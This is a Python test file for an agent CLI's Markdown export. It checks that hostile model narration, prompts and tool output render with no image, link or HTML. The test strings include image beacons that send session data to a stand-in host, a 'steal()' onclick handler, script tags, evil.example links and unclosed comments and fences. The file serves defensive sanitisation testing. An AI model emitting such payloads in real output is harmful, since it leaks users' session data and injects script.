"""`export --md` pasted where Markdown renders: a hostile model's narration, a hostile prompt and tool output.

The export is rendered with a real CommonMark parser (markdown-it, the one rich uses): no element the
transcript did not contain may appear (no image, no link, no HTML but the export's own <details>), and
every line after an unclosed `<!--` or an unclosed code fence is still there to read.
"""

from __future__ import annotations

import random
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from rhapsody.cli import main
from rhapsody.commands.export import md_line
from rhapsody.commands.md_escape import escaped_markdown, fenced, inert, plain, unsafe
from rhapsody.view.render import Line
from rhapsody.loopback.script import call, say

from tests.conftest import Stub, collect

BEACON = "https://beacon.example/p.png?d=SESSION-DATA"
NARRATIONS = [
    f'Here is the status <img src="{BEACON}"> and more.',
    "A picture ![chart](https://beacon.example/chart.png?d=1) and [the docs](https://evil.example/).",
    "[ref]: https://evil.example/ref\n\nUse [ref] or ![ref], or <https://evil.example/auto>.",
    'An escaped tick \\`<img src="https://beacon.example/q.png">` and a lone tick ` then more words.',
    "The code `a && b < c` is kept as code, as the model wrote it.",
    '<div onclick="steal()">\na block of raw HTML</div>',
    "Two ticks ``open\nacross lines`` then <b>bold</b> and ``\nclose`` <img src=x>.",
    'An unclosed fence starts here:\n```python\nprint("<img src=x>")',
    "And a comment that never closes <!-- everything after this is hidden",
]
LATER = "LATER LINE VISIBLE after all of them."
PROMPT = 'check <script>alert(1)</script> and [me](https://evil.example/) &amp; <!-- this'
OWN_HTML = re.compile(r"<details><summary>[^<]*</summary>|</details>")


def foreign(markdown: str) -> list[str]:
    """Every image, link or HTML token the export did not write itself."""
    return [f"{t.type}: {t.content[:60]}" for t in unsafe(markdown)
            if not (t.type == "html_block" and OWN_HTML.fullmatch(t.content.strip()))]


async def test_a_hostile_transcript_exports_as_markdown_with_no_element_it_did_not_contain(
        stub: Stub, project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    steps = [call(f"{text} I will run one short command to check it.", "bash", command=f"echo step-{n}")
             for n, text in enumerate(NARRATIONS)]
    tool_output = "printf '</details><img src=https://beacon.example/t.png>\\n<!--\\n'"
    stub.script(*steps, call("Now I will print the hostile tool output to see it folded.", "bash", command=tool_output), say(LATER))
    wiring = stub.wire(project, permission_mode="auto-edit")
    await collect(wiring.agent.run(PROMPT))
    assert main(["export", str(wiring.session.path), "--md", "-o", "-", "--cwd", str(project)]) == 0
    page = capsys.readouterr().out
    assert foreign(page) == []
    html = MarkdownIt("commonmark").render(page)
    assert "<img" not in html and "<!--" not in html and "<script" not in html and "<a " not in html
    assert f"<p>{LATER}</p>" in html
    assert "&lt;img src=&quot;https://beacon.example/p.png" in html  # the narration's words, shown as text
    assert "<code>a &amp;&amp; b &lt; c</code>" in html  # code stays code
    assert "print(&quot;&lt;img src=x&gt;&quot;)" in html and "everything after this is hidden" in html
    assert "check &lt;script&gt;alert(1)&lt;/script&gt;" in html and "&amp;amp;" in html
    assert html.count("<details>") == len(NARRATIONS) + 1  # every call folded, the tool's HTML inside its fence
    assert "&lt;/details&gt;&lt;img src=https://beacon.example/t.png&gt;" in html


def test_every_text_made_inert_or_plain_renders_no_html_image_or_link() -> None:
    pieces = ["`", "``", "```", "\\", "<", ">", "[", "]", "(", ")", "!", "&", "~~~", "\n", "\n\n", " ", "    ",
              "a", "-", "*", "#", ":", "<img src=x>", "<!--", "-->", "](u)", "<http://x>", "<div>", "&#60;", "|"]
    chance = random.Random(26)
    escaped_alone_held = 0
    for _ in range(3000):
        text = "".join(chance.choice(pieces) for _ in range(chance.randint(1, 30)))
        assert not any(unsafe(inert(text))), repr(text)
        assert not any(unsafe(plain(text))), repr(text)
        assert not any(unsafe("> " + plain(text).replace("\n", "\n> "))), repr(text)
        assert not any(unsafe(fenced(text))), repr(text)
        escaped_alone_held += not any(unsafe(escaped_markdown(text)))
    assert escaped_alone_held > 2500  # the readable form is the usual one; fencing whole is the exception


def test_a_folded_line_whose_title_spans_lines_stays_one_html_block() -> None:
    title = "⊘ bash echo a\n\n![x](https://beacon.example/t.png)\n\n<img src=x>"
    folded = md_line(Line("tool", title, body="out"))
    assert foreign(folded) == [] and folded.startswith("<details><summary>⊘ bash echo a ![x]")
